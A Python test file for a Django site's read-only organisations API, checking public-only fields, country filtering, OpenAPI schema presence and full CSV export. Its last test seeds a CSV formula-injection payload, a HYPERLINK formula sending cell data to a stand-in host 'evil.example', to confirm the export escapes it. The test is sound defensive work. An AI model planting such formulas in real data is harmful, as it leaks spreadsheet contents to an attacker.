"""/api/v1/organisations/: public fields of members only, as JSON and CSV."""

from __future__ import annotations

import csv
import io

import pytest

from coalition.lib.tests.helpers import body
from coalition.members.tests.factories import OrganisationFactory, SeatFactory, SupporterFactory

pytestmark = pytest.mark.django_db


def test_the_api_lists_members_with_public_fields_only(client):
    organisation = OrganisationFactory(name="Alpha Aid", slug="alpha-aid", country="NO", website="https://a.example")
    SeatFactory(organisation=organisation)
    OrganisationFactory(name="Hidden Applicant", status="applicant")
    SupporterFactory(email="secret.supporter@example.org", referred_by=organisation)

    response = client.get("/api/v1/organisations/")

    assert response.status_code == 200
    [row] = response.json()["results"]
    assert row["slug"] == "alpha-aid"
    assert row["country"] == "NO"
    assert row["steering_committee"] is True
    assert row["url"].endswith("/members/alpha-aid/")
    assert "secret.supporter" not in response.text
    assert "status" not in row and "editors" not in row


def test_the_api_filters_by_country_and_finds_one_organisation_by_slug(client):
    OrganisationFactory(name="Alpha Aid", slug="alpha-aid", country="NO")
    OrganisationFactory(name="Beta Relief", slug="beta-relief", country="LB")

    names = [row["name"] for row in client.get("/api/v1/organisations/?country=LB").json()["results"]]
    assert names == ["Beta Relief"]
    assert client.get("/api/v1/organisations/alpha-aid/").json()["name"] == "Alpha Aid"


def test_the_api_answers_csv(client):
    OrganisationFactory(name="Alpha Aid", slug="alpha-aid")

    response = client.get("/api/v1/organisations/?format=csv")

    assert response["Content-Type"].startswith("text/csv")
    header, row = body(response).strip().splitlines()
    assert header.startswith("slug,name,type,country")
    assert row.startswith("alpha-aid,Alpha Aid,ngo,NO")


def test_the_api_is_read_only(client, carol):
    client.force_login(carol)

    assert client.post("/api/v1/organisations/", {"name": "X"}).status_code == 405


def test_the_openapi_schema_describes_organisations(client):
    response = client.get("/api/schema/?format=json")

    assert "/api/v1/organisations/" in response.json()["paths"]


def test_the_csv_download_holds_every_organisation_not_only_the_first_page(client):
    OrganisationFactory.create_batch(101)

    response = client.get("/api/v1/organisations/?format=csv")

    assert len(body(response).strip().splitlines()) == 1 + 101


def test_a_name_typed_as_a_formula_reaches_the_csv_as_text(client):
    # An editor can rename their organisation; whoever opens the open-data CSV must not run it.
    OrganisationFactory(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', slug="formula", city="@SUM(1)")

    row = list(csv.DictReader(io.StringIO(body(client.get("/api/v1/organisations/?format=csv")).lstrip("\ufeff"))))[0]

    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert row["city"] == "'@SUM(1)"
